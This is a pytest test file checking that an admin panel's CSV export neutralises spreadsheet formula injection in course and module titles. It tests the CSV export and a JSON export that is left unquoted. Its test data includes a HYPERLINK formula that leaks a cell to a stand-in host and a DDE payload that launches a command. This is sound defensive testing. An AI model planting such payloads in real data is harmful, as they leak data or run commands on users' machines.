"""The panel's exports: a CSV opened in a spreadsheet never runs a cell as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session

from admin.views import csv_cell
from models import Course, CourseModule
from tests.admin.conftest import SignIn
from tests.world import World

# Text a spreadsheet would run, and what the export writes instead.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading blanks are looked through
    "\n=1+1",
]


class TestACsvCell:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_text_a_spreadsheet_would_run_is_quoted(self, text: str) -> None:
        assert csv_cell(text) == f"'{text}"

    @pytest.mark.parametrize("text", ["Watercolour", "a=b", "email@example.com", "1-2", ""])
    def test_other_text_is_unchanged(self, text: str) -> None:
        assert csv_cell(text) == text

    @pytest.mark.parametrize(("value", "cell"), [(-5, "-5"), (None, "None"), (True, "True")])
    def test_values_that_are_not_text_are_written_as_they_are(
        self, value: object, cell: str
    ) -> None:
        assert csv_cell(value) == cell


def export_rows(client: object, path: str, fmt: str = "csv") -> str:
    answer = client.get(f"/admin/{path}/export/{fmt}")  # type: ignore[attr-defined]
    assert answer.status_code == 200, answer.text
    return str(answer.text)


class TestTheCsvExport:
    @pytest.mark.parametrize("formula", FORMULAS)
    def test_a_course_title_that_is_a_formula_is_exported_as_text(
        self, formula: str, sign_in: SignIn, panel_world: World, session: Session
    ) -> None:
        course_id = panel_world.rows["courses"]["instructor_x"]
        session.execute(update(Course).where(Course.course_id == course_id).values(title=formula))
        session.commit()

        rows = list(csv.DictReader(io.StringIO(export_rows(sign_in("admin"), "courses"))))

        [row] = [row for row in rows if row["course_id"] == str(course_id)]
        assert row["title"] == f"'{formula}"
        assert row["price"] == "49.99"  # numbers are not touched

    def test_every_view_goes_through_the_same_cells(
        self, sign_in: SignIn, panel_world: World, session: Session
    ) -> None:
        # Another view and column: a module's title, exported by its instructor.
        module_id = panel_world.rows["course_modules"]["instructor_x"]
        session.execute(
            update(CourseModule).where(CourseModule.module_id == module_id).values(title="=1+1")
        )
        session.commit()

        text = export_rows(sign_in("instructor_x"), "course-modules")

        [row] = [
            row for row in csv.DictReader(io.StringIO(text)) if row["module_id"] == str(module_id)
        ]
        assert row["title"] == "'=1+1"


class TestTheJsonExport:
    def test_is_the_data_as_stored(
        self, sign_in: SignIn, panel_world: World, session: Session
    ) -> None:
        # JSON is read by programs, not run by spreadsheets: quoting would corrupt it.
        course_id = panel_world.rows["courses"]["instructor_x"]
        session.execute(update(Course).where(Course.course_id == course_id).values(title="=1+1"))
        session.commit()

        rows = json.loads(export_rows(sign_in("admin"), "courses", "json"))

        [row] = [row for row in rows if row["course_id"] == course_id]
        assert row["title"] == "=1+1"
